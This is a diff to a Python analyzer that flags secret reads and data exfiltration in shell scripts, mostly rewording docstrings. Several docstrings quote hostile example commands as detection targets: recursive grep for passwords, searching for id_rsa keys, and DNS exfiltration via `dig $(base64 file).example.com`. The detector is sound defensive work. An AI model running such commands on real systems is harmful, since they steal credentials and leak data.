@@ -22,7 +22,7 @@ from catalog.analysis.shell.script_files import file_key
 from catalog.analysis.tables import PATTERNS, WORDS
 from catalog.analysis.types import Level
 
-MAXIMUM_WORDS = 200  # of one command, or strings of its code, that are judged as paths
+MAXIMUM_WORDS = 200  # of one command, or strings in its code, that are checked as paths
 _READERS = (ANY_USE - WORDS["no-readers"]) | WORDS["readers"]
 _COPIERS, _SEARCHERS, _SENDERS = WORDS["copiers"], WORDS["searchers"], WORDS["senders"]
 _REPOSITORIES, _CONTAINERS = WORDS["repositories"], WORDS["container-programs"]
@@ -33,8 +33,8 @@ _VALUES |= {"head": "nc", "tail": "ncs", "od": "AjNtw", "xxd": "lsc", "awk": "Fv
 
 
 def find_disclosures(program: Program) -> Iterator[Effect]:
-    """Yield the secrets that are read, and whether they leave the machine."""
-    kinds: dict[int, str] = {}  # what a command reads, by its id
+    """Yield an effect for each secret that the script reads, prints or sends to another machine."""
+    kinds: dict[int, str] = {}  # kinds of secrets that commands read, by command id
     is_pushed = any(c.name in _REPOSITORIES and c.has_option("push") for c in program.commands)
     dumps = Flow(
         program, {id(command): command.name for command in filter(_is_dump, program.commands)}
@@ -97,7 +97,7 @@ def _kind_of(word: Word, program: Program) -> str | None:
 
 
 def _secrets_read(command: Command, program: Program) -> Iterator[tuple[Word, str]]:
-    """Yield the words of the command that are secrets and that it prints or copies."""
+    """Yield the command's words for secrets that the command prints or copies, each with the kind of secret."""
     name = command.name
     if name in program.functions:
         return
@@ -125,7 +125,7 @@ def _secrets_read(command: Command, program: Program) -> Iterator[tuple[Word, st
 
 
 def _is_built(word: Word, program: Program) -> bool:
-    """Return whether a substitution that is not a path computes the word, directly or through a variable."""
+    """Return whether a command that builds paths computes the word, directly or through a variable."""
     values = [v for v in program.values(word) if any(o.kind == "command" for o in v.outputs)]
     return any(c.name in WORDS["path-builders"] for value in values for c in program.inside(value))
 
@@ -147,14 +147,14 @@ def _files_read(command: Command) -> Iterable[Word]:
 
 
 def _curl_data(command: Command) -> list[Word]:
-    """Return the addresses and data of curl. Headers and passwords are meant for the server."""
+    """Return the URLs and data in a curl command, without headers and passwords, which are intended for the server."""
     arguments = read_curl(command)
     sent = [value for name, value in arguments.options if name in CURL_SENDS and value]
     return [*arguments.operands, *sent]
 
 
 def _searches(command: Command, *, is_fed: bool) -> Iterator[Effect]:
-    """Judge `grep -r password /srv`, `env | grep TOKEN` and `find / -name id_rsa`."""
+    """Yield an effect for searches such as `grep -r password /srv`, `env | grep TOKEN` and `find / -name id_rsa`."""
     message = ""
     if command.name in _SEARCHERS:
         arguments = read_arguments(command.arguments, short="efmABC", long=("include", "exclude"))
@@ -172,7 +172,7 @@ def _searches(command: Command, *, is_fed: bool) -> Iterator[Effect]:
 
 
 def _sent(kinds: dict[int, str], program: Program, level: Level = Level.ERROR) -> Iterator[Effect]:
-    """Yield secrets, or bulk data at a lower level, that reach a command that talks to another machine."""
+    """Yield secrets, or bulk data at a lower level, that reach a command that connects to another machine."""
     is_bulk = level is not Level.ERROR
     senders = [
         command
@@ -221,7 +221,7 @@ def _published(command: Command, program: Program, kinds: dict[int, str]) -> Ite
 
 
 def _files_sent(command: Command) -> Iterator[Word]:
-    """Yield the files that the command sends to another machine, unless it is a copy command."""
+    """Yield the files that the command sends to another machine. Copy commands are not covered."""
     if command.name == "curl":
         for option, value in read_curl(command).options:
             found = PATTERNS["curl-file"].match(f"{option}={value.prefix}") if value else None
@@ -236,7 +236,9 @@ def _files_sent(command: Command) -> Iterator[Word]:
 
 
 def _sends_files(command: Command, program: Program) -> Iterator[Effect]:
-    """Judge sent files without a known secret, because home folders and variables may contain one."""
+    """Yield an effect for a sent file without a known secret, because home folders and variables may contain
+    secrets.
+    """
     files = list(_files_sent(command))
     is_copy = not files and command.name in WORDS["copies-to-others"]
     if is_copy:
@@ -258,7 +260,7 @@ def _sends_files(command: Command, program: Program) -> Iterator[Effect]:
 
 
 def _find_bulk(program: Program) -> dict[int, str]:
-    """Return the commands, by id, that output whole databases, disks or folders, or files with their contents."""
+    """Return the commands, by id, that output whole databases, disks or folders, or files that contain them."""
     kinds, files = dict[int, str](), set[str]()
     for command in program.commands:
         redirected = [r.word for r in command.redirects if not r.word.prefix.startswith("/dev/")]
@@ -276,7 +278,7 @@ def _find_bulk(program: Program) -> dict[int, str]:
 
 
 def _is_stranger(command: Command) -> bool:
-    """Return whether the command sends to an arbitrary address. Backups usually go to named hosts over SSH."""
+    """Return whether the command sends data to an arbitrary address. Backups usually go to named hosts over SSH."""
     words = [*command.arguments, *(redirect.word for redirect in command.redirects)]
     is_bare = any(PATTERNS["stranger"].search(word.literal or "") for word in words)
     return is_bare or command.name in WORDS["bulk-senders"]
@@ -325,7 +327,7 @@ def _data_words(command: Command) -> Iterator[Word]:
 
 
 def _dns_queries(program: Program) -> Iterator[Effect]:
-    """Judge `dig $(base64 file).example.com`, which sends data in the name of a DNS query."""
+    """Yield an effect for commands such as `dig $(base64 file).example.com`, which send data in a DNS query."""
     queries = [command for command in program.commands if command.name in _DNS]
     if not queries:
         return
